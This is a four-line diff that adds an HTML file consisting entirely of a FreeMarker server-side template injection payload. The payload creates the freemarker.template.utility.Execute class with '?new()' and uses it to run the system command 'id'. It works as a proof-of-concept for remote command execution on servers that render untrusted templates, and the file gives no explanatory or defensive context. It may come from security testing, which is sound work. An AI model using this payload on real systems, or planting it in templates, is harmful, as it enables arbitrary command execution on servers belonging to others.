@@ -1,0 +1,4 @@
+<html>
+<#assign ex = "freemarker.template.utility.Execute"?new()>
+${ex("id")}
+</html>
